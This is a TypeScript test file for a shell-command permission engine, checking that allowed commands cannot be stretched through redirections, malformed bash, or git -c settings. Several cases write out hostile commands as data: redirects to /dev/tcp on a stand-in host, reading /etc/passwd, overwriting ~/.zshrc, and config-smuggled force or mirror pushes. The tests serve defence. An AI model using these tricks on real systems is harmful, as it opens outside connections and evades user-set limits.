import { describeTwins } from "./twins.ts";

// Other spellings of what a rule allows or forbids, and lines that only look like it.

const prefixes = (...words: readonly string[]) => ({
  id: "ok",
  effect: "allow",
  command: words.map((prefix) => ({ prefix })),
});
const exact = (...words: readonly string[]) => ({
  id: "ok",
  effect: "allow",
  command: words.map((one) => ({ exact: one })),
});
const noForce = { id: "no-force", effect: "deny", ref: { force: true } };
const files = { "/w/a.txt": "", "/w/src/x.ts": "" };

describeTwins([
  {
    promise: "exact words say nothing about where the shell sends their output, or what it feeds them",
    user: { rules: [exact("npm test", "cargo check")] },
    files,
    ask: [
      "npm test > src/x.ts",
      "npm test >> package.json",
      "npm test &> log",
      "npm test 2> log",
      "npm test > $LOG",
      "npm test > /tmp/log",
      "npm test < /etc/passwd",
      "npm test > /dev/tcp/x.test/80",
      "{ npm test; } > log",
      "(npm test) > log",
      "cargo check > ~/.zshrc",
    ],
    allow: [
      "npm test",
      "npm test 2>&1",
      "npm test > /dev/null",
      "npm test >/dev/null 2>&1",
      "npm test < a.txt",
    ],
  },
  {
    promise: "a redirection of exact words passes where a path rule allows it",
    user: {
      rules: [exact("npm test"), { id: "log", effect: "allow", path: { glob: "log/**", action: "write" } }],
    },
    ask: ["npm test > log2/a"],
    allow: ["npm test > log/a", "npm test >> ./log/b 2>&1"],
  },
  {
    promise: "an allowed command opens no connection through its redirections",
    user: { rules: [prefixes("echo", "cat")] },
    files,
    ask: [
      "echo x > /dev/tcp/x.test/80",
      "cat a.txt > /dev/udp/x.test/53",
      "cat < /dev/tcp/x.test/80",
      "echo x >> /dev/tcp/10.0.0.1/443",
    ],
    allow: ["echo /dev/tcp/x.test/80", "cat a.txt > /dev/null"],
  },
  {
    promise: "a line that bash refuses is not allowed",
    user: { rules: [prefixes("ls", "echo")] },
    ask: [
      "ls ( a",
      "ls (",
      "echo ( 'a b' c",
      "ls \\\n ( a",
      "(ls (; echo)",
      "echo a > 2>&1",
      "ls >2>&1",
      "e(cho",
    ],
    allow: ["ls '(' a", "echo \\( a", "(ls)", "ls\n(echo a)", "echo a >&2", "(ls; echo a)"],
  },
  {
    promise: "git log -c shows merges, and git -c sets something",
    user: { rules: [prefixes("git log", "git diff", "git show")] },
    allow: ["git log -c", "git diff -c HEAD", "git show -c --stat", "git log --cc -c -3"],
    ask: ["git -c core.pager=x log -c", "git -c a.b=c log"],
  },
  {
    promise: "a refspec or a mirror that a setting gives is pushed like one that is written",
    user: { rules: [noForce, prefixes("git push")] },
    deny: [
      "git -c remote.origin.push=+main push",
      "git -c remote.origin.push='+refs/*:refs/*' push origin",
      "git -c remote.origin.mirror=true push",
      "git -c a.b=c -c remote.o.mirror=1 push o",
    ],
    ask: ["git -c remote.origin.push=main push", "git -c remote.origin.mirror=false push"],
    allow: ["git push origin x"],
  },
]);
